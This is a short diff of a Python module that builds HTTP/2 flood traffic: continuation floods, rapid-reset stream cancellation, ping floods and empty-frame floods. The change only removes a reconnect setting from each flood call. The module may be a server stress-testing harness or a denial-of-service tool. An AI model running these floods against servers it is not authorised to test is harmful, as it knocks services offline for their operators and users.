@@ -89,7 +89,7 @@ def continuation_flood(target):
             raw_peer.HEADERS, 0, 1, raw_peer.header_block(EXECUTE))
         yield from itertools.repeat(piece)
 
-    return _flood(target, chunks, reconnects=8 * target.connections)
+    return _flood(target, chunks)
 
 
 def _filler(size):
@@ -108,7 +108,7 @@ def rapid_reset(target):
                 raw_peer.call(stream, EXECUTE) + raw_peer.frame(raw_peer.RST_STREAM, 0, stream, b"\0\0\0\x08")
                 for stream in range(first, first + 64, 2))
 
-    return _flood(target, chunks, reconnects=8 * target.connections)
+    return _flood(target, chunks)
 
 
 def open_streams(path, body=b""):
@@ -132,7 +132,7 @@ def pings(target):
         yield raw_peer.settings()
         yield from itertools.repeat(frames)
 
-    return _flood(target, chunks, reads=False, reconnects=8 * target.connections)
+    return _flood(target, chunks, reads=False)
 
 
 def empty_frames(target):
@@ -143,7 +143,7 @@ def empty_frames(target):
         yield raw_peer.settings() + raw_peer.call(1, EXECUTE)
         yield from itertools.repeat(frames)
 
-    return _flood(target, chunks, reconnects=8 * target.connections)
+    return _flood(target, chunks)
 
 
 def _hold(target, make, count):
